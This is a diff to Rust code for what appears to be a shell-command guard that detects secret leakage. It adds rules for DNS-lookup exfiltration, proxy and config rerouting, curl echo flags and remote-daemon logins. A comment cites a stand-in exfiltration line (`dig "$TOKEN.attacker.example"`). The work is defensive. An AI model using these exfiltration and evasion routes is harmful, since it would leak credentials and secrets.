@@ -319,12 +319,7 @@ impl Analyzer<'_> {
         // Which input devices exist is no keystroke.
         // A project file's name and metadata are the project's, whatever
         // it holds (`stat .env`); the user's own stores are not even listed.
-        // Which programs left a core dump is no memory of theirs.
-        let device_names = verb == "lists"
-            && (paths::keystroke_device(&p)
-                || self.inside(&p)
-                || paths::under_dir(&p, "/var/crash")
-                || paths::under_dir(&p, "/var/lib/systemd/coredump"));
+        let device_names = verb == "lists" && (paths::keystroke_device(&p) || self.inside(&p));
         if let Some(why) = paths::credential_normalized(&p, &w.text).filter(|_| !device_names) {
             self.block(format!("touches a credential: {why}"));
             return None;
@@ -446,7 +441,8 @@ impl Analyzer<'_> {
             prints
         };
         // Printed only into its service's sign-in or a count: used, not shown.
-        let shown_var = |var: &str| prints && !handed_on(c, super::tokens::service_hosts(var));
+        let shown_var =
+            |var: &str| prints && (network || !handed_on(c, super::tokens::service_hosts(var)));
         // wget prints each URL it fetches unless told to be quiet.
         let url_echo = c.lb.starts_with("wget")
             && !c.args.iter().any(|a| {
@@ -490,9 +486,25 @@ impl Analyzer<'_> {
             );
             for var in names {
                 // A proxy or certificate set for this command sends it elsewhere.
-                let rerouted = c.src.assigns.iter().any(|(n, _)| {
+                // Anywhere on the line (`export https_proxy=…; curl …`, `env
+                // CURL_CA_BUNDLE=… curl`), or a home whose `.curlrc` says so.
+                let reroutes = |n: &str| {
                     let n = n.to_ascii_lowercase();
-                    n.ends_with("_proxy") || n == "curl_ca_bundle" || n == "ssl_cert_file"
+                    n.ends_with("_proxy")
+                        || matches!(
+                            n.as_str(),
+                            "curl_ca_bundle"
+                                | "ssl_cert_file"
+                                | "home"
+                                | "xdg_config_home"
+                                | "curl_home"
+                        )
+                };
+                let rerouted = c.script.commands.iter().any(|k| {
+                    k.assigns.iter().any(|(n, _)| reroutes(n))
+                        || k.argv
+                            .iter()
+                            .any(|w| w.text.split_once('=').is_some_and(|(n, _)| reroutes(n)))
                 });
                 let own = |url: Option<&str>| {
                     !rerouted && super::tokens::own_service(&var, &c.args, url, &w.text)
@@ -560,6 +572,22 @@ impl Analyzer<'_> {
                         .get(i.wrapping_sub(2))
                         .is_some_and(|prev| prev == "-n" || prev == "-z");
                 let url_shown = url_echo && w.text.contains("://");
+                // A name looked up is sent to whichever server answers for
+                // it (`dig "$TOKEN.attacker.example"`).
+                let looked_up = matches!(
+                    c.lb.as_str(),
+                    "dig"
+                        | "host"
+                        | "nslookup"
+                        | "drill"
+                        | "ping"
+                        | "ping6"
+                        | "traceroute"
+                        | "whois"
+                        | "getent"
+                        | "resolvectl"
+                );
+                let in_data = in_data || looked_up;
                 if shown_var(&var) || url_shown || in_data || elsewhere {
                     self.block(format!("reveals the secret variable ${var}"));
                 } else if !tested {
@@ -581,10 +609,7 @@ impl Analyzer<'_> {
                     // reach. The user's own stores are not even listed.
                     // So is the metadata of the project's own (`stat .env`).
                     if metadata_only(&c.lb)
-                        && (p.starts_with("/etc/")
-                            || p.starts_with("/dev/")
-                            || p.starts_with("/var/")
-                            || self.inside(&p))
+                        && (p.starts_with("/etc/") || p.starts_with("/dev/") || self.inside(&p))
                     {
                         continue;
                     }
@@ -737,6 +762,11 @@ fn echoes_request(lb: &str, args: &[String]) -> bool {
                 | "--libcurl"
         ) || letter_flags(a).is_some_and(|b| b.contains(|ch| letters.contains(ch)))
             || lb == "curl" && (a == "-w" || a == "--write-out") && shows(next)
+            // `-sw FMT`: w ends a bundle and takes the next word.
+            || lb == "curl" && short_flags(a).is_some_and(|b| b.len() > 1 && b.ends_with('w')) && shows(next)
+            // A config file may say `verbose`; xh `--curl` prints the request.
+            || lb == "curl" && (matches!(flag, "-K" | "--config") || short_flags(a).is_some_and(|b| b.contains('K')))
+            || flag == "--curl"
             || lb == "curl"
                 && (a.strip_prefix("--write-out=").is_some_and(shows)
                     || a.strip_prefix("-w")
@@ -763,7 +793,9 @@ pub(super) fn handed_on(c: &Cmd<'_>, service: Option<&[&str]>) -> bool {
     // a GitHub Actions secret): the question names the repository.
     match (service, dest) {
         (_, Handed::Store) | (None, _) => true,
-        (Some(hosts), Handed::Login(d)) => d.is_some_and(|d| super::tokens::serves(hosts, &d)),
+        (Some(hosts), Handed::Login(d)) => {
+            d.is_some_and(|d| super::tokens::serves_strictly(hosts, &d))
+        }
     }
 }
 
@@ -790,14 +822,52 @@ pub(super) fn into_login(c: &Cmd<'_>) -> Option<Handed> {
             eq_value(w, flag).or_else(|| (*w == flag).then(|| words.get(i + 1).copied()).flatten())
         })
     };
-    let login_at = words.iter().position(|w| *w == "login");
+    let env_of = |name: &str| {
+        next.assigns
+            .iter()
+            .find(|(n, _)| n == name)
+            .map(|(_, v)| v.text.as_str())
+    };
+    // Only the sign-in of a known tool, run by this machine's own daemon:
+    // `docker -H tcp://x login` hands the password to that daemon.
+    const LOGINS: &[&str] = &[
+        "docker", "podman", "nerdctl", "buildah", "skopeo", "helm", "oras", "crane", "gh", "glab",
+        "npm", "pnpm", "yarn", "cf", "regctl",
+    ];
+    let elsewhere_daemon = words.iter().any(|w| {
+        matches!(*w, "-H" | "--host" | "--context" | "-c")
+            || w.starts_with("--host=")
+            || w.starts_with("--context=")
+    }) || next.assigns.iter().any(|(n, _)| {
+        matches!(
+            n.as_str(),
+            "DOCKER_HOST" | "DOCKER_CONTEXT" | "CONTAINER_HOST"
+        )
+    });
+    let login_at = words
+        .iter()
+        .position(|w| *w == "login")
+        .filter(|_| LOGINS.contains(&b.as_str()) && !elsewhere_daemon);
     let from_stdin = words
         .iter()
         .any(|w| matches!(*w, "--password-stdin" | "--with-token" | "--token-stdin"));
     if let Some(at) = login_at.filter(|_| from_stdin) {
         let dest = match b.as_str() {
-            "gh" => Some(value_of("--hostname").unwrap_or("github.com").to_string()),
-            "glab" => Some(value_of("--hostname").unwrap_or("gitlab.com").to_string()),
+            // A host set another way (`-h`, `GH_HOST`) is read as named.
+            "gh" => Some(
+                value_of("--hostname")
+                    .or_else(|| value_of("-h"))
+                    .or_else(|| env_of("GH_HOST"))
+                    .unwrap_or("github.com")
+                    .to_string(),
+            ),
+            "glab" => Some(
+                value_of("--hostname")
+                    .or_else(|| value_of("-h"))
+                    .or_else(|| env_of("GITLAB_HOST"))
+                    .unwrap_or("gitlab.com")
+                    .to_string(),
+            ),
             "npm" | "pnpm" | "yarn" => Some(
                 value_of("--registry").map_or("registry.npmjs.org".to_string(), host_of_address),
             ),
